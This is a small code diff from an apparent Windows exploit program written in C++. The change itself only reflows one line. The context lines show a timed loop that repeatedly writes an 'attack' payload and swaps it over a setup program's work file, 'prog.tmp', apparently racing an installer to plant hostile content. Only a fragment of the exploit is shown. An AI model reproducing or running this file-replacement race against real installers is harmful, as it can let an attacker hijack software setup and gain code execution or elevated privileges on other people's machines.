@@ -46,7 +46,8 @@ int wmain(int argc, wchar_t** argv) {
   unsigned long changes = 0;
   WriteAll(argv[3], {});
   const DWORD start = GetTickCount();
-  while (GetFileAttributesW(argv[2]) == INVALID_FILE_ATTRIBUTES && GetTickCount() - start < 120000) {
+  while (GetFileAttributesW(argv[2]) == INVALID_FILE_ATTRIBUTES &&
+         GetTickCount() - start < 120000) {
     // Replace prog.tmp, the setup's old work file, in one step as well as by overwriting.
     if (WriteAll(spare, attack) &&
         MoveFileExW(spare.c_str(), (folder + L"prog.tmp").c_str(), MOVEFILE_REPLACE_EXISTING)) {
